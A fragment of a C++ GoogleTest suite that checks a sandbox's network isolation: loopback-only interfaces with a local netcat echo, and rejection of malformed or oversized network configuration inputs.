  EXPECT_NE(r.out.find("lo:"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("eth"), std::string::npos) << "a device besides loopback: " << r.out;
  EXPECT_EQ(net_->Count("203.0.113.10:80"), before);
  auto nc = c().StartCommand(id, {{"cmd", "echo over-loopback | nc -l -p 7000"}});
  ASSERT_TRUE(nc);
  std::this_thread::sleep_for(300ms);
  r = Run(id, "nc 127.0.0.1 7000 </dev/null");
  EXPECT_EQ(r.out, "over-loopback\n") << r.err;
  Delete(id);
}

TEST_F(NetworkTest, BadInput) {
  for (const Json& n : {Json{{"mode", "wifi"}}, Json{{"allow_out", {"1.2.3.4/99"}}},
                        Json{{"deny_out", {"example.com"}}}, Json("internet"),
                        Json{{"secrets", {{{"name", "K"}, {"value", "v"}}}}}}) {
    auto r = c().CreateSandbox({{"network", n}});
    ASSERT_FALSE(r) << n.dump();
    EXPECT_EQ(r.error().code, Errc::kInvalidArgument) << n.dump() << " " << r.error().message;
  }
  Json many = Json::array();
  for (int i = 0; i < 65; ++i) many.push_back("203.0.113." + std::to_string(i) + "/32");
  auto r = c().CreateSandbox({{"network", {{"allow_out", many}}}});
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().message.find("at most 64"), std::string::npos);
}

}  // namespace
}  // namespace space::testing
